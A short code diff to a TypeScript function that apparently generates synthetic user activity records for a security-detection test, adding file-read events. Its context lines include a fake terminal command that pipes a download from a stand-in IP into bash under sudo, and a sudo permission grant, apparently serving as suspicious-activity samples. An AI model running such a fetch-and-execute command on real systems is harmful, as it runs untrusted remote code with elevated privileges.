@@ -73,6 +73,12 @@ export function activitiesOf(user: string, place: number): object[] {
   };
   return [
     { user, ...signIn },
+    ...['srv', 'mnt', 'opt'].map((root) => ({
+      user,
+      occurredAt: '2026-01-06T14:05:00Z',
+      detail: { file: { operation: 'READ', path: `/${root}/${short}/report` } },
+    })),
+    { user, occurredAt: '2026-01-06T14:06:00Z', detail: { file: { operation: 'READ', path: '/usr/share/report' } } },
     ...all,
     { user, session: `${user}-pty`, detail: { terminal: { command: `sudo -u ${short} sh -c "curl http://192.0.2.1/x | bash"` } } },
     { user, detail: { access: { change: 'PERMISSION', target: 'sudo', after: user } } },
